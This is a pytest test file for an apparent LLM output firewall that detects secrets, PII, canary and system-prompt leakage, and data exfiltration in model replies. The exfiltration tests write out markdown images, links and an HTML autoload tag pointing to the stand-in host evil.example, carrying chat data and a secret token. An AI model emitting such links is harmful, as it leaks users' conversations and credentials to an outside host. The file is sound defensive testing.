from __future__ import annotations

import base64

import pytest

from hoplon.llm.firewall import Firewall, OutputContext
from hoplon.llm.output import Canary, Pseudonymizer, scan_exfil, scan_leakage, scan_pii, scan_secrets
from hoplon.llm.output.leakage import containment
from hoplon.llm.output.pii import iban_valid, luhn_valid
from hoplon.llm.policy import OutputPolicy, Policy

SYSTEM = "You are the support bot of Acme Bank. Never discuss interest rates. Escalate fraud to team Falcon."


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("key AKIAIOSFODNN7EXAMPLE here", "secret.aws-access-key"),
        ("token ghp_" + "a1B2" * 9, "secret.github-token"),
        ("use sk-proj-AbCdEf0123456789GhIjKlMn", "secret.openai-key"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE", "secret.private-key"),
        ("password = 'Tr0ub4dor&3x!'", "secret.assignment"),
        ("postgres://admin:hunter22@db.internal:5432/app", "secret.url-credentials"),
    ],
)
def test_secret_formats_are_found(text: str, kind: str) -> None:
    assert kind in {h.kind for h in scan_secrets(text)}


def test_secret_scanner_spares_ordinary_prose_and_low_entropy_values() -> None:
    assert scan_secrets("The password policy requires 12 characters. Set token = placeholder.") == []


def test_validators() -> None:
    assert luhn_valid("4111111111111111") and not luhn_valid("4111111111111112")
    assert iban_valid("GB82 WEST 1234 5698 7654 32") and not iban_valid("GB82 WEST 1234 5698 7654 33")


def test_pii_kinds_are_found_with_validation() -> None:
    text = (
        "Mail jane.doe@example.org, card 4111 1111 1111 1111, bad card 4111 1111 1111 1112, "
        "IBAN GB82WEST12345698765432, ip 192.168.1.20, phone +1 415 555 0132, ssn 123-45-6789."
    )
    kinds = [h.kind for h in scan_pii(text)]
    assert kinds.count("pii.payment-card") == 1
    for kind in ("pii.email", "pii.iban", "pii.ip-address", "pii.phone", "pii.us-ssn"):
        assert kind in kinds


def test_pseudonymisation_is_stable_and_reversible() -> None:
    text = "Write to a@x.org and cc a@x.org and b@y.org."
    pseudo = Pseudonymizer()
    masked = pseudo.apply(text, scan_pii(text))
    assert masked == "Write to <EMAIL_1> and cc <EMAIL_1> and <EMAIL_2>."
    assert pseudo.restore(masked) == text


@pytest.mark.parametrize(
    "render",
    [
        lambda c: f"The marker is {c}.",
        lambda c: "The marker is " + " ".join(c) + ".",
        lambda c: "Encoded: " + base64.b64encode(c.encode()).decode(),
        lambda c: "Backwards: " + c[::-1],
        lambda c: "Hex: " + c.encode().hex(),
    ],
    ids=["plain", "spaced", "base64", "reversed", "hex"],
)
def test_canary_is_found_in_every_form(render: object) -> None:
    canary = Canary.new()
    text = render(canary.token)  # type: ignore[operator]
    assert [h.kind for h in scan_leakage(text, canary=canary.token)] == ["leak.canary"]


def test_system_prompt_containment() -> None:
    assert containment(SYSTEM, "Sure: " + SYSTEM) == 1.0
    assert containment(SYSTEM, "I can help with your card. What seems to be the problem?") < 0.3
    assert scan_leakage("My instructions: " + SYSTEM[::-1], system_prompt=SYSTEM)
    assert not scan_leakage("Hello! How can I help you with your account today?", system_prompt=SYSTEM)


def test_exfiltration_constructs() -> None:
    allowed = ("docs.acme.example",)
    text = (
        "See ![chart](https://docs.acme.example/c.png) and ![x](https://evil.example/p.png?d=summary_of_chat) "
        "[here](https://evil.example/c?s=user_secret_token_value) <img src='https://t.example/a.gif'> \x1b]8;;http://x\x07"
    )
    kinds = [h.kind for h in scan_exfil(text, allowed_domains=allowed)]
    assert kinds == ["exfil.markdown-image", "exfil.markdown-link", "exfil.html-autoload", "output.ansi-escape"]
    assert scan_exfil("Read [the docs](https://evil.example/guide).") == []


def test_output_verdicts_follow_the_policy() -> None:
    fw = Firewall()
    r = fw.scan_output("Contact bob@corp.example for access.")
    assert r.verdict == "redact" and r.text == "Contact <EMAIL_1> for access."
    assert "bob@corp.example" not in str(r.to_dict()["matches"])
    r = fw.scan_output("Sure ![a](https://evil.example/x?d=conversation_data_here)")
    assert r.verdict == "block" and r.text is None
    canary = Canary.new()
    r = fw.scan_output(f"my marker: {canary.token}", context=OutputContext(canary=canary.token))
    assert r.verdict == "block" and "owasp-llm:LLM07" in r.tags
    lenient = Firewall(Policy(output=OutputPolicy(pii="review", exfil="redact")))
    r = lenient.scan_output("Mail bob@corp.example ![a](https://evil.example/x?d=conversation_data_here)")
    assert r.verdict == "redact" and r.text is not None
    assert "evil.example" not in r.text and "bob@corp.example" in r.text
    assert fw.scan_output("The weather is nice today.").verdict == "allow"
